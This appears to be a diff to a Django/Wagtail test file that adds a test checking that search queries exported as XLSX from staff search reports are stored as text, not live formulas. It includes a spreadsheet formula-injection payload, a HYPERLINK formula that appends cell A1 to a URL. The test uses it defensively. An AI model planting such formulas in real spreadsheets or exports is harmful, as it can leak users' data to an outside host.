@@ -1,8 +1,11 @@
 """Editors see what staff search for and what finds nothing, and can promote pages for a query."""
 
+import io
+
 import pytest
 from django.contrib.auth.models import Group, Permission
 from django.urls import reverse
+from openpyxl import load_workbook
 from wagtail.contrib.search_promotions.models import Query, SearchPromotion
 from wagtail.models import PageViewRestriction
 
@@ -91,3 +94,14 @@ def test_exported_queries_cannot_run_as_spreadsheet_formulas(
     rows = exported.splitlines()[1:]
     assert rows and all(not row.lstrip('"').startswith(("=", "+", "-", "@")) for row in rows)
     assert "hyperlink" in exported.lower()
+
+
+@pytest.mark.parametrize("report", ["search_reports:popular", "search_reports:no_results"])
+def test_exported_queries_come_back_as_text_cells_in_xlsx(
+    tree, staff_client, editor_client, report
+):
+    attack = '=HYPERLINK("http://127.0.0.1/x?"&A1,"klicka")'
+    staff_client.get("/sok/", {"q": attack})
+    exported = b"".join(editor_client.get(reverse(report), {"export": "xlsx"}))
+    [query_cell, _hits] = list(load_workbook(io.BytesIO(exported)).active.iter_rows(min_row=2))[0]
+    assert (query_cell.value, query_cell.data_type) == (Query.get(attack).query_string, "s")
